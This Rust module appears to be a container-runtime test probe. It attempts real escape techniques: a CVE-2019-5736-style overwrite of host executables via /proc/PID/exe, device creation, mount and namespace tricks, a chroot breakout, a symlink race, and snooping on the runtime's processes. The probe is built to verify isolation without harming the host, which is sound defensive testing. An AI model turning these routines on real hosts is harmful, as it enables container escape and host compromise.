//! What a hostile process inside a container tries. Each mode answers with one JSON object that says how far it got, and leaves
//! a host that let it succeed unharmed: a file proved writable gets its own first byte again.

use crate::errno;
use crate::json::{Json, list, object};
use crate::sys;
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const S_IFCHR: u32 = 0o020_000;
const S_IFBLK: u32 = 0o060_000;
const CLONE_NEWNS: i32 = 0x0002_0000;
const CLONE_NEWUSER: i32 = 0x1000_0000;

/// One executable that is not the probe's own, held open.
struct Foreign {
    path: PathBuf,
    target: String,
    fd: i32,
    readable: bool,
    write: String,
    unlock: String,
    remount: String,
}

/// CVE-2019-5736: takes hold of the executable of whatever of the host's runs in here, waits until it is no longer running
/// (ETXTBSY) and writes to it. Also tries to take the read-only flag off its mount.
///
/// With `target` that one path is attacked, otherwise every foreign /proc/PID/exe that turns up before `time` is over.
pub fn overwrite_executable(target: Option<&Path>, time: Duration) -> (Json, i32) {
    let own = identity(Path::new("/proc/self/exe"));
    let mut held: BTreeMap<(u64, u64), Foreign> = BTreeMap::new();
    let end = Instant::now() + time;
    let mut overwritten = false;
    while Instant::now() < end && !overwritten {
        let candidates = target.map_or_else(executables, |path| vec![path.to_owned()]);
        for path in candidates {
            let Some(id) = identity(&path) else { continue };
            if target.is_none() && Some(id) == own || held.contains_key(&id) {
                continue;
            }
            if let Some(foreign) = take(&path) {
                held.insert(id, foreign);
            }
        }
        for foreign in held.values_mut() {
            overwritten |= attack(foreign);
        }
    }
    let seen = list(held.values().map(|foreign| {
        object([
            ("path", foreign.path.display().to_string().into()),
            ("target", foreign.target.as_str().into()),
            ("readable", foreign.readable.into()),
            ("unlock", foreign.unlock.as_str().into()),
            ("remount", foreign.remount.as_str().into()),
            ("write", foreign.write.as_str().into()),
        ])
    }));
    (object([("seen", seen), ("overwritten", overwritten.into())]), if overwritten { 3 } else { 0 })
}

fn executables() -> Vec<PathBuf> {
    let Ok(entries) = fs::read_dir("/proc") else { return vec![] };
    let is_pid = |name: &str| name.bytes().all(|byte| byte.is_ascii_digit());
    entries
        .flatten()
        .filter(|entry| entry.file_name().to_str().is_some_and(is_pid))
        .map(|entry| entry.path().join("exe"))
        .collect()
}

fn identity(path: &Path) -> Option<(u64, u64)> {
    fs::metadata(path).ok().map(|data| (data.dev(), data.ino()))
}

fn take(path: &Path) -> Option<Foreign> {
    let target = fs::read_link(path).map_or_else(|_| String::new(), |target| target.display().to_string());
    let readable = sys::open_fd(path, sys::O_RDONLY | sys::O_CLOEXEC);
    let fd = readable
        .as_ref()
        .map_or_else(|_| sys::open_fd(path, sys::O_PATH | sys::O_CLOEXEC).ok(), |fd| Some(*fd))?;
    let untried = String::new;
    Some(Foreign {
        path: path.to_owned(),
        target,
        fd,
        readable: readable.is_ok(),
        write: untried(),
        unlock: untried(),
        remount: untried(),
    })
}

fn attack(foreign: &mut Foreign) -> bool {
    let again = PathBuf::from(format!("/proc/self/fd/{}", foreign.fd));
    foreign.unlock = errno::outcome(&sys::clear_read_only(foreign.fd));
    foreign.remount = errno::outcome(&sys::mount_at("", &again, "", sys::MS_REMOUNT | sys::MS_BIND));
    let result = sys::open_fd(&again, sys::O_WRONLY | sys::O_CLOEXEC).and_then(|writable| {
        let result = sys::rewrite_first_byte(foreign.fd, writable);
        sys::close_fd(writable);
        result
    });
    foreign.write = errno::outcome(&result);
    result.is_ok()
}

/// Makes the device and tries to read it: mknod may be allowed where opening is not.
pub fn make_device(path: &Path, kind: &str, major: u32, minor: u32) -> Json {
    let kind = if kind == "b" { S_IFBLK } else { S_IFCHR };
    let made = sys::make_node(path, kind | 0o600, major, minor);
    let opened = sys::open_fd(path, sys::O_RDWR | sys::O_NONBLOCK | sys::O_CLOEXEC);
    if let Ok(fd) = opened {
        sys::close_fd(fd);
    }
    let removed = if made.is_ok() { errno::outcome(&fs::remove_file(path)) } else { "not made".to_owned() };
    object([
        ("mknod", errno::outcome(&made).into()),
        ("open", errno::outcome(&opened).into()),
        ("remove", removed.into()),
    ])
}

/// The ways out by mounts: new mounts, lifting masks and read-only flags off `covered`, a user namespace, a nested chroot.
///
/// What changes the process itself is done in a child.
pub fn escape_by_mounts(covered: &[String]) -> Json {
    let mut tries = vec![
        ("mount tmpfs".to_owned(), try_mount("tmpfs")),
        ("mount proc".to_owned(), try_mount("proc")),
        ("mount sysfs".to_owned(), try_mount("sysfs")),
        ("unshare mnt".to_owned(), in_child(|| sys::leave_namespaces(CLONE_NEWNS).is_ok())),
        (
            "unshare user+mnt".to_owned(),
            in_child(|| sys::leave_namespaces(CLONE_NEWUSER | CLONE_NEWNS).is_ok()),
        ),
        ("nested chroot".to_owned(), in_child(leave_chroot)),
    ];
    for path in covered {
        let path = Path::new(path);
        let uncovered = sys::unmount(path);
        tries.push((format!("umount {}", path.display()), errno::outcome(&uncovered)));
        let writable = sys::mount_at("", path, "", sys::MS_REMOUNT | sys::MS_BIND);
        tries.push((format!("remount,rw {}", path.display()), errno::outcome(&writable)));
    }
    Json::Object(tries.into_iter().map(|(name, result)| (name, result.into())).collect())
}

fn try_mount(kind: &str) -> String {
    let result = sys::mount_at("none", Path::new("/tmp"), kind, 0);
    if result.is_ok() {
        let _undone = sys::unmount(Path::new("/tmp"));
    }
    errno::outcome(&result)
}

fn in_child(trick: impl FnOnce() -> bool) -> String {
    match sys::in_child(|| i32::from(!trick())) {
        Ok(0) => "ok".to_owned(),
        Ok(code) => format!("refused ({code})"),
        Err(error) => errno::name(&error),
    }
}

/// The classic: a root below the working directory, then up past it. True when another directory than our root is reached.
fn leave_chroot() -> bool {
    let before = identity(Path::new("/"));
    if fs::create_dir_all("/tmp/.probe-root").is_err()
        || sys::change_root(Path::new("/tmp/.probe-root")).is_err()
    {
        return false;
    }
    let up = "../".repeat(64);
    let outside = std::env::set_current_dir(&up).is_ok() && sys::change_root(Path::new(".")).is_ok();
    outside && identity(Path::new("/")) != before
}

/// Swaps `a` and `b` of `directory` as fast as it goes, for a path walker to trip over. Returns how often.
pub fn race_symlinks(directory: &Path, a: &str, b: &str, time: Duration) -> std::io::Result<i64> {
    let (a, b) = (directory.join(a), directory.join(b));
    let end = Instant::now() + time;
    let mut swaps = 0;
    while Instant::now() < end {
        sys::exchange(&a, &b)?;
        swaps += 1;
    }
    Ok(swaps)
}

/// Looks at every process of podrun's that turns up before `time` is over, for a way to `marker`, a path of the host's: by
/// its root, its working directory, or a directory that it has open. Also how often its memory could be opened for
/// writing, which takes as much as to trace it.
pub fn spy(marker: &str, time: Duration) -> (Json, i32) {
    let up = "../".repeat(32);
    let (mut ways, mut memory, mut descriptors) = (std::collections::BTreeSet::new(), 0u64, 0u64);
    let mut seen = std::collections::BTreeSet::new();
    let end = Instant::now() + time;
    while Instant::now() < end {
        for exe in executables() {
            let Some(process) = exe.parent() else { continue };
            let name = fs::read_to_string(process.join("comm")).unwrap_or_default();
            if !name.starts_with("podrun") && !name.starts_with("supervisor") {
                continue;
            }
            seen.insert((process.to_owned(), name.trim().to_owned()));
            for way in ["root", "cwd"] {
                if fs::metadata(process.join(way).join(format!("{up}{marker}"))).is_ok()
                    || fs::metadata(process.join(way).join(marker.trim_start_matches('/'))).is_ok()
                {
                    ways.insert(format!("{} by its {way}", name.trim()));
                }
            }
            for fd in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
                descriptors += 1;
                if fs::metadata(fd.path().join(format!("{up}{marker}"))).is_ok() {
                    ways.insert(format!("{} by a descriptor", name.trim()));
                }
            }
            if let Ok(fd) = sys::open_fd(&process.join("mem"), sys::O_RDWR | sys::O_CLOEXEC) {
                memory += 1;
                sys::close_fd(fd);
            }
        }
    }
    let code = if ways.is_empty() { 0 } else { 3 };
    let answer = object([
        ("seen", (seen.len() as u64).into()),
        ("descriptors", descriptors.into()),
        ("memory", memory.into()),
        ("ways", list(ways.into_iter().map(Json::from))),
    ]);
    (answer, code)
}
